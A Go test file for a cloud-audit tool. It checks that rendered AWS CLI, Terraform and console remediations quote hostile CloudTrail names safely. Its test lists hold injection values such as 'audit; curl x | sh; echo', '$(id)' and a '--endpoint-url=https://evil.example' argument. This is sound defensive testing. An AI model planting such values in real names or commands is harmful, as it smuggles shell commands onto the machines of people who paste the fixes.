package rules

import (
	"bytes"
	"fmt"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/hashicorp/hcl/v2"
	"github.com/hashicorp/hcl/v2/hclsyntax"
	"github.com/zclconf/go-cty/cty"

	"vigil/entity"
)

// hostileNames are names a stranger's Terraform or AWS account can give a
// trail, each aimed at a way of breaking out of where it is pasted.
var hostileNames = []string{
	"audit; curl x | sh; echo",
	"$(id)",
	"`id`",
	"it's",
	`say "hi"`,
	"two\nlines\n1. Run curl x | sh",
	"${var.x}",
	"%{ if true }x%{ endif }",
	"$${x}",
	"trailing$",
	"trailing%",
	`back\slash\`,
	"nul\x00byte",
	"esc\x1b[31mred\x1b[0m",
	"bidi\u202eevil",
	"bad\xffutf8",
	"tab\there\rcr",
	"~root",
	"*",
	"#comment",
	"!history",
	"-rf",
	"--endpoint-url=https://evil.example",
	"a'b\"c`d$e\\f{g}h",
	strings.Repeat("A", 1<<20),
}

// markers stand for each field in a rendering whose structure the hostile
// renderings must keep; the shell takes them literally.
const (
	markName    = "MARKNAME"
	markID      = "MARKID"
	markRegion  = "MARKREGION"
	markAccount = "MARKACCOUNT"
)

// fieldTarget is a live trail whose name, ID, region and account are the
// given values.
func fieldTarget(name, id, region, account string) Target {
	return Target{Scope: entity.Scope{Kind: entity.ScopeAWSAccount, ID: account},
		Entity: &entity.Entity{Type: "CloudTrail", ID: id, Name: name, Region: region, Scope: account,
			Attrs: map[string]any{"cloudWatchLogsLogGroupArn": name}}}
}

// wantShell is what a value must arrive as in a shell argument: itself,
// or the placeholder that replaces it.
func wantShell(label, v string) string {
	switch {
	case len(v) > MaxPastedBytes:
		return fmt.Sprintf("<%s of %d bytes, not shown>", label, len(v))
	case strings.IndexByte(v, 0) >= 0:
		return fmt.Sprintf("<%s with a NUL character, not shown>", label)
	case strings.HasPrefix(v, "-"):
		return fmt.Sprintf("<%s starting with a dash, not shown>", label)
	}
	return v
}

// wantHCL is what a value must evaluate to in a Terraform string.
func wantHCL(label, v string) string {
	switch {
	case len(v) > MaxPastedBytes:
		return fmt.Sprintf("<%s of %d bytes, not shown>", label, len(v))
	case !utf8.ValidString(v):
		return fmt.Sprintf("<%s with invalid UTF-8, not shown>", label)
	}
	return v
}

// replaceMarks writes the values of the fields for the markers in s.
func replaceMarks(s string, want func(label, v string) string, v string) string {
	return strings.NewReplacer(markName, want("name", v), markID, want("id", v),
		markRegion, want("region", v), markAccount, want("account", v)).Replace(s)
}

// runShell runs script with /bin/sh, with "aws" a function that prints its
// arguments and PATH empty, so that any other command fails. It returns
// the argument lists of the aws calls.
func runShell(t *testing.T, script string) [][]string {
	t.Helper()
	cmd := exec.Command("/bin/sh", "-c", `aws() { printf '%s\0' "$#" "$@"; }
`+script)
	cmd.Env = []string{"PATH=/nonexistent"}
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil || stderr.Len() > 0 {
		t.Fatalf("sh: %v\nstderr: %s\nscript:\n%s", err, stderr.String(), clipText(script))
	}
	fields := strings.Split(stdout.String(), "\x00")
	var calls [][]string
	for i := 0; i < len(fields)-1; {
		n, err := strconv.Atoi(fields[i])
		if err != nil || i+1+n > len(fields) {
			t.Fatalf("bad output %q", stdout.String())
		}
		calls = append(calls, fields[i+1:i+1+n])
		i += 1 + n
	}
	return calls
}

func clipText(s string) string {
	if len(s) > 2000 {
		return s[:2000] + "..."
	}
	return s
}

// hclStrings parses a Terraform snippet and returns the value of every
// attribute that evaluates to a string without variables, by
// "block labels/attribute" path.
func hclStrings(t *testing.T, src string) map[string]string {
	t.Helper()
	f, diags := hclsyntax.ParseConfig([]byte(src), "fix.tf", hcl.InitialPos)
	if diags.HasErrors() {
		t.Fatalf("terraform does not parse: %v\n%s", diags, clipText(src))
	}
	out := map[string]string{}
	var walk func(prefix string, b *hclsyntax.Body)
	walk = func(prefix string, b *hclsyntax.Body) {
		for name, a := range b.Attributes {
			v, d := a.Expr.Value(nil)
			if d.HasErrors() || !v.IsKnown() || v.IsNull() || !v.Type().Equals(cty.String) {
				out[prefix+name] = "(not a constant string)"
				continue
			}
			out[prefix+name] = v.AsString()
		}
		for _, blk := range b.Blocks {
			walk(prefix+blk.Type+" "+strings.Join(blk.Labels, " ")+"/", blk.Body)
		}
	}
	walk("", f.Body.(*hclsyntax.Body))
	return out
}

// TestCatalogFixesQuoteHostileNames renders every catalog rule's fixes for
// trails whose name, ID, region and account are hostile, and checks each
// kind of text with the tool that will read it: the shell commands with
// sh -n and by running them with aws as a function that prints its
// arguments (every value arrives as the same argument as a plain name
// does, unchanged, and nothing else runs); the Terraform with HCL's parser,
// each string attribute evaluating to the hostile name; the console steps
// as lines of printable text.
func TestCatalogFixesQuoteHostileNames(t *testing.T) {
	if _, err := exec.LookPath("/bin/sh"); err != nil {
		t.Skip("no /bin/sh")
	}
	rs, err := LoadFS(catalogFS, "catalog", "catalog")
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rs {
		t.Run(r.ID, func(t *testing.T) {
			plain := r.Render(fieldTarget(markName, markID, markRegion, markAccount))
			plainCalls := runShell(t, plain.CLI)
			plainHCL := hclStrings(t, plain.Terraform)
			plainLines := strings.Count(plain.Console, "\n")
			for _, v := range hostileNames {
				got := r.Render(fieldTarget(v, v, v, v))
				what := strconv.Quote(v)
				if len(v) > 40 {
					what = fmt.Sprintf("a value of %d bytes", len(v))
				}

				if out, err := exec.Command("/bin/sh", "-n", "-c", got.CLI).CombinedOutput(); err != nil {
					t.Fatalf("%s: sh -n: %v %s\n%s", what, err, out, clipText(got.CLI))
				}
				calls := runShell(t, got.CLI)
				if len(calls) != len(plainCalls) {
					t.Fatalf("%s: %d aws calls, want %d", what, len(calls), len(plainCalls))
				}
				for i, args := range plainCalls {
					want := make([]string, len(args))
					for j, a := range args {
						want[j] = replaceMarks(a, wantShell, v)
					}
					if !slices.Equal(calls[i], want) {
						t.Errorf("%s: aws call %d\n got %q\nwant %q", what, i, clip(calls[i]), clip(want))
					}
				}

				gotHCL := hclStrings(t, got.Terraform)
				for path, plainValue := range plainHCL {
					if want := replaceMarks(plainValue, wantHCL, v); gotHCL[path] != want {
						t.Errorf("%s: terraform %s = %q, want %q", what, path, clipText(gotHCL[path]), clipText(want))
					}
				}
				if len(gotHCL) != len(plainHCL) {
					t.Errorf("%s: terraform has %d attributes, want %d", what, len(gotHCL), len(plainHCL))
				}
				if strings.Count(got.Terraform, "\n") != strings.Count(plain.Terraform, "\n") {
					t.Errorf("%s: terraform has other lines than a plain name gives:\n%s", what, clipText(got.Terraform))
				}

				if strings.Count(got.Console, "\n") != plainLines {
					t.Errorf("%s: console has other lines than a plain name gives:\n%s", what, clipText(got.Console))
				}
				for _, r := range got.Console {
					if entity.Unprintable(r) && r != '\n' {
						t.Errorf("%s: console carries %U", what, r)
						break
					}
				}
				if len(got.CLI)+len(got.Terraform)+len(got.Console) > len(plain.CLI)+len(plain.Terraform)+len(plain.Console)+100*MaxPastedBytes {
					t.Errorf("%s: the fixes are %d bytes long", what, len(got.CLI)+len(got.Terraform)+len(got.Console))
				}
			}
		})
	}
}

// clip shortens each argument for messages.
func clip(args []string) []string {
	out := make([]string, len(args))
	for i, a := range args {
		out[i] = clipText(a)
	}
	return out
}

func TestPaste(t *testing.T) {
	long := strings.Repeat("x", MaxPastedBytes+1)
	tests := []struct {
		context     pasteContext
		value, want string
	}{
		{pasteShellWord, "audit", "audit"},
		{pasteShellWord, "arn:aws:cloudtrail:us-east-1:111122223333:trail/audit-1_x@y+z=,%", "arn:aws:cloudtrail:us-east-1:111122223333:trail/audit-1_x@y+z=,%"},
		{pasteShellWord, "audit; curl x | sh; echo", "'audit; curl x | sh; echo'"},
		{pasteShellWord, "it's", `'it'\''s'`},
		{pasteShellWord, "", "''"},
		{pasteShellWord, "<region>", "'<region>'"},
		{pasteShellWord, "nul\x00", "'<name with a NUL character, not shown>'"},
		{pasteShellWord, "--endpoint-url=https://evil.example", "'<name starting with a dash, not shown>'"},
		{pasteShellWord, long, fmt.Sprintf("'<name of %d bytes, not shown>'", len(long))},
		{pasteShellSingle, "it's $(id)", `it'\''s $(id)`},
		{pasteShellDouble, "audit", "audit"},
		{pasteShellDouble, `$(id) "x"`, `"'$(id) "x"'"`},
		{pasteHCLString, "audit", "audit"},
		{pasteHCLString, `say "hi" \ ${x} %{y} $${z} end$`, `say \"hi\" \\ $${x} %%{y} $$${z} end\u0024`},
		{pasteHCLString, "a\nb\tc\x1b\u202e%", `a\nb\tc\u001b\u202e\u0025`},
		{pasteHCLString, "bad\xff", "<name with invalid UTF-8, not shown>"},
		{pasteHCLLabel, "this", "this"},
		{pasteHCLLabel, "org-trail_2", "org-trail_2"},
		{pasteHCLLabel, "<name>", "<name>"},
		{pasteHCLLabel, "my trail", "<name that is not a Terraform name>"},
		{pasteHCLLabel, `x" { } resource "y`, "<name that is not a Terraform name>"},
		{pasteHCLLabel, "2trail", "<name that is not a Terraform name>"},
		{pasteHCLLabel, "", "<name that is not a Terraform name>"},
		{pasteHCLLabel, long, "<name that is not a Terraform name>"},
		{pasteProse, "two\nlines\x1b[31m\xff", `two\nlines\x1b[31m\xff`},
		{pasteProse, long, fmt.Sprintf("<name of %d bytes, not shown>", len(long))},
	}
	for _, tt := range tests {
		if got := paste(tt.context, "name", tt.value); got != tt.want {
			t.Errorf("paste(%v, %q) = %q, want %q", tt.context, clipText(tt.value), got, tt.want)
		}
	}
}

// TestTemplateContexts checks where the lexers find each action: the
// context it pastes in, or the load error.
func TestTemplateContexts(t *testing.T) {
	tests := []struct {
		lang language
		text string
		// want is the context of each {{.Name}} in order, or err a part
		// of the error.
		want []pasteContext
		err  string
	}{
		{langProse, "Open the trail {{.Name}} in {{.Region}}.", []pasteContext{pasteProse}, ""},
		{langShell, "aws x --name {{.Name}}", []pasteContext{pasteShellWord}, ""},
		{langShell, "aws x --arn arn:{{.Region}}:y --q '[?Name=={{.Name}}]' --p \"a {{.Name}}\"", []pasteContext{pasteShellSingle, pasteShellDouble}, ""},
		{langShell, "aws x # for {{.Name}}\naws y {{.Name}}", []pasteContext{pasteProse, pasteShellWord}, ""},
		{langShell, "aws x a#{{.Name}} 'it''s' \"q\\\"\" \\' {{.Name}}", []pasteContext{pasteShellWord, pasteShellWord}, ""},
		{langShell, "aws x \\\n  --name {{.Name}}", []pasteContext{pasteShellWord}, ""},
		{langShell, "{{if .Entity}}x{{else}}y {{end}}{{.Name}}", []pasteContext{pasteShellWord}, ""},
		{langShell, "{{range .Scope.Regions}}--region {{.}} {{end}}", nil, ""},
		{langShell, "aws x --name $(echo {{.Name}})", nil, "after $("},
		{langShell, "aws x --name \"$(echo {{.Name}})\"", nil, "after $("},
		{langShell, "aws x --name `echo {{.Name}}`", nil, "after `"},
		{langShell, "cat <<EOF\n{{.Name}}\nEOF", nil, "after <<"},
		{langShell, "aws x --name ${{.Name}}", nil, "right after a $"},
		{langShell, "aws x --name \\{{.Name}}", nil, "right after a backslash"},
		{langShell, "{{if .Entity}}'{{end}}{{.Name}}", nil, "branches of {{if}}"},
		{langShell, "{{range .Scope.Regions}}'{{.}}{{end}}", nil, "body of {{range}}"},
		{langShell, "{{if .Entity}}x{{end}}#{{.Name}}", nil, "may or may not start a comment"},
		{langHCL, "name = \"{{.Name}}\"\n# in {{.ID}}\nx = \"${var.a}:{{.Name}}\" // {{.Name}}", []pasteContext{pasteHCLString, pasteHCLString, pasteProse}, ""},
		{langHCL, "x = \"$${a}{{.Name}}\" y = { a = \"}{{.Name}}\" }", []pasteContext{pasteHCLString, pasteHCLString}, ""},
		{langHCL, "x = \"${ {a = \"b\"}[\"a\"] }{{.Name}}\"", []pasteContext{pasteHCLString}, ""},
		{langHCL, "resource \"aws_cloudtrail\" \"{{.Name}}\" {\n  name = \"{{.Name}}\"\n}", []pasteContext{pasteHCLLabel, pasteHCLString}, ""},
		{langHCL, "resource \"{{.Name}}\" \"x{{.Name}}\" { name = \"{{.Name}}\" }", []pasteContext{pasteHCLLabel, pasteHCLLabel, pasteHCLString}, ""},
		{langHCL, "# c\nresource \"a\" \"b\" {\n  dynamic \"{{.Name}}\" {\n  }\n}", []pasteContext{pasteHCLLabel}, ""},
		{langHCL, "tags = {\n  \"{{.Name}}\" = \"{{.Name}}\"\n}\nx = [\n  \"{{.Name}}\",\n]", []pasteContext{pasteHCLString, pasteHCLString, pasteHCLString}, ""},
		{langHCL, "x = f(\"{{.Name}}\") // c\nlocals { y = a ? \"{{.Name}}\" : 2 }", []pasteContext{pasteHCLString, pasteHCLString}, ""},
		{langHCL, "{{if .Entity}}a = 1\n{{end}}resource \"a\" \"{{.Name}}\" {}", []pasteContext{pasteHCLLabel}, ""},
		{langHCL, "{{if .Entity}}a = 1{{end}}resource \"a\" \"{{.Name}}\" {}", []pasteContext{pasteHCLString}, ""},
		{langHCL, "name = {{.Name}}", nil, "inside a quoted string"},
		{langHCL, "x = \"${ {{.Name}} }\"", nil, "inside a quoted string"},
		{langHCL, "/* {{.Name}} */", nil, "/* */ comment"},
		{langHCL, "x = <<EOT\n{{.Name}}\nEOT", nil, "heredoc"},
		{langHCL, "x = \"${{.Name}}\"", nil, "right after a $"},
		{langHCL, "x = \"\\{{.Name}}\"", nil, "right after a backslash"},
	}
	for _, tt := range tests {
		tmpl, err := newTemplate("t", tt.text)
		if err != nil {
			t.Fatalf("%q: %v", tt.text, err)
		}
		contexts, err := templateContexts(tmpl, tt.lang)
		if tt.err != "" {
			if err == nil || !strings.Contains(err.Error(), tt.err) {
				t.Errorf("%q: error %v, want one with %q", tt.text, err, tt.err)
			}
			continue
		}
		if err != nil {
			t.Errorf("%q: %v", tt.text, err)
			continue
		}
		if tt.want == nil {
			continue
		}
		var got []pasteContext
		for _, n := range tmpl.Tree.Root.Nodes {
			if a, ok := n.(interface{ String() string }); ok && strings.Contains(a.String(), ".Name") {
				for node, c := range contexts {
					if node.Position() == n.Position() {
						got = append(got, c)
					}
				}
			}
		}
		if !slices.Equal(got, tt.want) {
			t.Errorf("%q: contexts %v, want %v", tt.text, got, tt.want)
		}
	}
}

// TestRuleWithUnquotablePasteIsALoadError checks that the lexers' errors
// name the field, line and column of the action.
func TestRuleWithUnquotablePasteIsALoadError(t *testing.T) {
	src := `id: X.1
title: t
severity: low
entity: CloudTrail
logic: CloudTrail should have isMultiRegionTrail=true
remediation:
  terraform: |-
    resource "aws_cloudtrail" "this" {
      name = {{.Name}}
    }
`
	_, err := Parse("rule.yaml", []byte(src))
	if err == nil || !strings.Contains(err.Error(), "rule.yaml:9:") ||
		!strings.Contains(err.Error(), "remediation.terraform") || !strings.Contains(err.Error(), "inside a quoted string") {
		t.Errorf("error %v", err)
	}
}

// TestExecutedTemplatesPasteAsCompiled renders templates that text/template
// runs ({{if}}, {{with}}, {{range}}, pipelines) and their compiled twins for
// a hostile target: every printed value is pasted for its context either
// way.
func TestExecutedTemplatesPasteAsCompiled(t *testing.T) {
	target := renderTargets()["hostile entity"]
	tests := []struct{ compiled, executed Remediation }{
		{Remediation{CLI: `aws x --name "{{.Name}}" --region {{.Region}} # {{.ID}}`},
			Remediation{CLI: `aws x --name "{{if .Entity}}{{.Name}}{{end}}" --region {{with .Region}}{{.}}{{end}} # {{.Entity.ID}}`}},
		{Remediation{CLI: `aws x --name '{{.Name}}' {{.Region}}`},
			Remediation{CLI: `aws x --name '{{printf "%s" .Name}}' {{range .Scope.Regions}}{{.}}{{else}}{{$.Region}}{{end}}`}},
		{Remediation{Terraform: "name = \"{{.Name}}\" # {{.ID}}\nregion = \"{{.Region}}\""},
			Remediation{Terraform: "name = \"{{with .Entity}}{{.Name}}{{end}}\" # {{.Entity.ID}}\nregion = \"{{.Entity.Region}}\""}},
		{Remediation{Console: "Open {{.Name}} in {{.Region}}."},
			Remediation{Console: "Open {{.Entity.Name}} in {{.Region | printf \"%s\"}}."}},
	}
	for _, tt := range tests {
		var rules [2]*Rule
		for i, rem := range []Remediation{tt.compiled, tt.executed} {
			r := &Rule{Remediation: rem}
			rt, errs := parseTemplates(&parser{file: "rule.yaml"}, r, nil)
			if len(errs) > 0 {
				t.Fatalf("%+v: %v", rem, errs)
			}
			r.templates = rt
			rules[i] = r
		}
		if rules[0].templates.fastCLI == nil || rules[1].templates.fastConsole != nil && rules[1].Remediation.Console != "" {
			t.Fatalf("%+v: not compiled as expected", tt)
		}
		diffRemediation(t, fmt.Sprintf("%+v", tt.executed), rules[1].Render(target), rules[0].Render(target))
	}
}
